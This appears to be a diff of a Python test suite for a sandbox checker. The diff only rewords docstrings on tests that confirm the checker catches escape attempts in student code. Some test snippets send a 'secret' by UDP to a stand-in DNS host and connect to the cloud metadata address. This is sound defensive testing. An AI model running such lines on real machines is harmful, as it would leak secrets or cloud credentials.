@@ -20,7 +20,7 @@ return True
 
 @attack()
 def connection(it: Submission) -> None:
-    """A TCP connection to a server of one's own on this machine."""
+    """A TCP connection to the student's own server on this machine."""
     it.finds("""
         import socket
         server = socket.create_server(("127.0.0.1", 0))
@@ -38,21 +38,21 @@ def open_port(it: Submission) -> None:
 
 @attack()
 def name_lookup(it: Submission) -> None:
-    """A question to a name server, which can carry what was read in the name that is asked for."""
+    """A query to a name server, which can carry secrets in the name that it asks for."""
     statement = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('203.0.113.1', 53))"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
 def metadata_address(it: Submission) -> None:
-    """The address at which a cloud tells its machines their passwords."""
+    """The address from which a cloud's machines get their passwords."""
     statement = "socket.create_connection(('169.254.169.254', 80), timeout=1)"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
 def abstract_socket(it: Submission) -> None:
-    """An abstract Unix socket, which needs no file and is seen by all of a machine."""
+    """An abstract Unix socket, which needs no file and is visible on the whole machine."""
     it.finds("""
         import socket
         server = socket.socket(socket.AF_UNIX)
